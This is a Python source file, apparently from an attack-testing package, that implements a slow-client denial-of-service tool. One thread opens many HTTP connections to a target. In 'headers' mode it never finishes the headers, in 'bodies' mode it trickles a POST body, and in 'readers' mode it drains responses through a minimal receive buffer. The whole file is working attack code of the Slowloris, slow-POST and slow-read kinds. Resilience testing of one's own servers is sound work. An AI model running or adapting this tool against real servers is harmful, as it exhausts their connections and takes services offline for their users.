"""Slow clients without a tool: one thread holds them all, and gives each a sign of life in turn."""

import errno
import selectors
import socket
import threading
import time

from attacks.target import PORT

STEPS_A_SECOND = 20


class Own_Slow_Clients:
    """`clients` connections, each of which sends or reads a little every `period` seconds.

    mode: "headers" never ends the header, "bodies" never ends the body, "readers" asks for `path`
    through a small receive buffer and reads a few bytes each time.
    """

    def __init__(self, mode, address, path, clients, period):
        self._mode, self._address, self._path = mode, address, path
        self._period = period
        self._stopping = threading.Event()
        self._clients = clients
        self._sockets = []
        self._thread = threading.Thread(target=self._live)
        self._thread.start()

    def _connect(self):
        connection = socket.socket()
        if self._mode == "readers":
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the system's least
        connection.settimeout(30)
        connection.connect((self._address, PORT))
        head = f"Host: {self._address}\r\n"
        if self._mode == "headers":
            text = f"GET {self._path} HTTP/1.1\r\n{head}"
        elif self._mode == "bodies":
            text = f"POST {self._path} HTTP/1.1\r\n{head}Content-Length: 8192\r\n\r\n"
        else:
            text = f"GET {self._path} HTTP/1.1\r\n{head}\r\n"
        connection.sendall(text.encode())
        connection.setblocking(False)
        return connection

    def _sign_of_life(self, connection):
        """Returns whether the server still holds the connection."""
        try:
            if self._mode == "headers":
                connection.send(b"X-a: b\r\n")
            elif self._mode == "bodies":
                connection.send(b"a=b&")
            elif not connection.recv(32):
                return False
        except OSError as error:
            return error.errno == errno.EAGAIN
        return True

    def _live(self):
        while len(self._sockets) < self._clients and not self._stopping.is_set():
            self._sockets.append(self._connect())
        with selectors.DefaultSelector() as ends:
            if self._mode != "readers":  # these see the end when they read
                for connection in self._sockets:
                    ends.register(connection, selectors.EVENT_READ)
            due = time.monotonic() + self._period
            while self._sockets and not self._stopping.wait(1 / STEPS_A_SECOND):
                for key, _ in ends.select(0):  # no answer is due: it is the end
                    self._drop(key.fileobj, ends)
                if time.monotonic() >= due:
                    due += self._period
                    for connection in list(self._sockets):
                        if not self._sign_of_life(connection):
                            self._drop(connection, ends)

    def _drop(self, connection, ends):
        if self._mode != "readers":
            ends.unregister(connection)
        connection.close()
        self._sockets.remove(connection)

    def stop(self):
        self._stopping.set()
        self._thread.join()
        for connection in self._sockets:
            connection.close()
